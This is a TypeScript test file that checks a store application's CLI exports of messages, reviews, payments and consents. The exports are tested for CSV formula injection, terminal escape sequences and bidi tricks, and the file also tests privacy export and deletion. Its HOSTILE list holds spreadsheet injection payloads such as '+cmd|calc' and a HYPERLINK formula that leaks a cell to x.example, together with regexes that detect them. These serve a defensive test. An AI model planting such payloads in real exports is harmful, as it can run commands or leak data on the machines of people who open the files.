import '#tests/content/texts/read-texts.ts';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { insertMessage } from '#app/contact/messages.server.ts';
import { openOrder } from '#app/payments/books/ledger.server.ts';
import { insertReview } from '#app/reviews/reviews.server.ts';
import { openStore } from '#app/store/store.server.ts';
import { ops, opsJson } from '#tests/cli.ts';
import { customer, plan } from '#tests/payments/payments.ts';
import { log } from '#tests/silent-log.ts';

/** Texts that a spreadsheet would run or split, that would break a line, or that would steer a terminal. */
const HOSTILE = [
  ...['=1+1', '+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
  ...['a,"b"', 'two\nlines', "O'Neil", '1-2', '=HYPERLINK("http://x.example?"&A1,"b")'],
  ...['a;=1+1', '\u0080\u009b31mred\u0085\u009f', '\u001b]0;title\u0007José\u007f', '\u0001=1+1', '\u202emoc.live'],
  // Neither is a phone number: spreadsheets run the first ones, and show the last one as -998.
  ...["+1+cmd|'/C calc'!A0", '+1 302\n+1 302', '+1 302;=1', '+1+1 302 555', '-1 302 555', '+1-302-555-0142'],
];
const PHONES = ['+1 302 555 0142', '+1 (302) 555-0142', '+13025550142'];
/** What a terminal obeys. */
const STEERS = /(?![\t\r\n])[\p{Cc}\p{Bidi_Control}]/gu;
const FORMULA = /(?<=^|[;\t\r\n])(?=[=+\-@\t\r\n＝＋－＠])/;
const form = { page: '/contact-us', address: '192.0.2.7', userAgent: 'A browser', quarantine: false, wording: null };
let env: Record<string, string>;

beforeAll(async () => {
  env = { DATA_DIR: mkdtempSync(join(tmpdir(), 'exports-')) };
  const store = await openStore({ kind: 'sqlite', file: join(env.DATA_DIR as string, 'hearthline.db') }, log);
  // Each order is older than the one before it.
  let moment = Date.parse('2025-03-04T05:06:07Z');
  const now = () => {
    moment -= 1_000;
    return moment;
  };
  const books = { db: store.db, provider: 'paypal', environment: null, emails: null, log, now };
  const person = { lastName: 'Quill', phone: '302 555 0177', smsConsent: true, marketingConsent: false };
  for (const [index, firstName] of HOSTILE.entries()) {
    const hostile = { ...form, userAgent: firstName };
    await insertMessage(store.db, { ...person, firstName, email: `ada${index}@agents.example` }, 'x.example', hostile);
  }
  for (const [index, email] of ['Bo@Agents.Example', 'bo@agents.example', 'bo+other@agents.example'].entries()) {
    await insertMessage(store.db, { ...person, firstName: 'Bo', phone: PHONES[index] ?? '', email }, 'x.example', form);
  }
  for (const [index, text] of HOSTILE.entries()) {
    const review = { firstName: 'Cy', lastName: 'Reed', companyName: '', jobTitle: 'Broker', rating: 5 };
    await insertReview(store.db, { ...review, reviewDescription: text, date: '2025-03-04T05:06:07Z' }, null);
    const buyer = { ...customer, firstName: text };
    const order = { owner: null, plan, customer: buyer, approvalUrl: null };
    await openOrder(books, { ...order, orderID: `ORDER-${index}`, invoiceId: `I-${index}` });
  }
  await store.close();
});
afterAll(() => rmSync(env.DATA_DIR as string, { recursive: true }));

test.each([
  ['messages', 'firstName', HOSTILE.length + 3],
  ['reviews', 'reviewDescription', HOSTILE.length],
  ['payments', 'firstName', HOSTILE.length],
  ['consents', 'userAgent', HOSTILE.length + 3],
])('lists %s as JSON and CSV, newest first, with no formula but phones', async (noun, field, count) => {
  const [rows, { code, out, err }] = await Promise.all([
    opsJson([noun, 'list'], env),
    ops([noun, 'list', '--csv'], env),
  ]);
  expect({ code, err }).toEqual({ code: 0, err: '' });
  expect(new Set(rows.map(({ id }) => id)).size).toBe(count);
  const moments = rows.map(({ createdAt }) => createdAt);
  expect(moments).toEqual(moments.toSorted().reverse());

  // Without the mark, spreadsheets take the text for another alphabet's.
  expect(out.startsWith('\ufeff')).toBe(true);
  expect(out.split('\ufeff')).toHaveLength(2);
  expect(out).not.toMatch(STEERS);
  const [header = [], ...lines] = parseCsv(out.slice(1));
  expect(header).toEqual(Object.keys(rows[0] ?? {}));
  expect(lines.map(([id]) => id)).toEqual(rows.map(({ id }) => String(id)));
  const cells = lines.map((line) => line[header.indexOf(field)]);
  for (const text of HOSTILE) {
    expect(cells).toContain(text.replace(new RegExp(FORMULA, 'g'), "'").replace(STEERS, '\ufffd'));
  }

  const phones = header.includes('smsConsent') ? PHONES.toReversed() : [];
  expect(lines.flat().filter((cell) => FORMULA.test(cell))).toEqual(phones);
  expect(lines.every((line) => line.length === header.length)).toBe(true);
  // Many spreadsheets split at a semicolon.
  expect(out).toMatch(/,"a;'=1\+1"[,\r\n]/);
});

test('steers no terminal with tables, single rows or JSON, which keeps every value', async () => {
  for (const words of [['list'], ['show', '19']]) {
    const { out } = await ops(['messages', ...words], env);
    expect(out).toContain('José');
    expect(out).not.toMatch(STEERS);
  }
  const { out } = await ops(['messages', 'list', '--json'], env);
  expect(out).not.toMatch(STEERS);
  const names = out
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line).firstName);
  expect(names).toEqual(expect.arrayContaining(HOSTILE));
});

test('exports a person as one JSON document, which no text of theirs can steer', async () => {
  const words = ['privacy', 'export', '--email', 'ADA17@agents.example', '--name', 'cy  reed'];
  const { code, out, err } = await ops(words, env);
  expect([code, err]).toEqual([0, '']);
  expect(out.replaceAll('\n', '')).not.toMatch(STEERS);
  const person = JSON.parse(out);
  expect(person).toMatchObject({ messages: [{ firstName: HOSTILE[17] }], consents: [{ userAgent: HOSTILE[17] }] });
  expect(person.reviews).toHaveLength(HOSTILE.length);
  expect(person.letters).toMatchObject([{ kind: 'contact' }]);
});

test("deletes a person's messages and mails, and keeps the proof of consent", async () => {
  const { code, out } = await ops(['privacy', 'delete', '--email', ' BO@agents.example'], env);
  expect(code).toBe(0);
  expect(out).toContain('2 messages are deleted');
  expect(out).not.toContain('@');
  const left = (await opsJson(['messages', 'list'], env)).map(({ email }) => email);
  expect(left).toHaveLength(HOSTILE.length + 1);
  expect(left[0]).toBe('bo+other@agents.example');
  expect(await opsJson(['emails', 'list', '--filter', 'waiting'], env)).toHaveLength(HOSTILE.length + 1);
  expect(await opsJson(['consents', 'list'], env)).toHaveLength(HOSTILE.length + 3);
  const none = 'Nothing is left to delete. What stays: 2 consents as proof. `privacy export` shows it.\n';
  const email = ['--email', 'bo@agents.example'];
  expect(await ops(['privacy', 'delete', ...email], env)).toEqual({ code: 0, out: none, err: '' });
  const stranger = await ops(['privacy', 'export', '--email', 'nobody@agents.example'], env);
  expect(stranger).toMatchObject({ code: 0, err: 'Nothing is held under this address.\n' });
});

/** Cells as a spreadsheet reads them (RFC 4180). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    rows.at(-1)?.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}
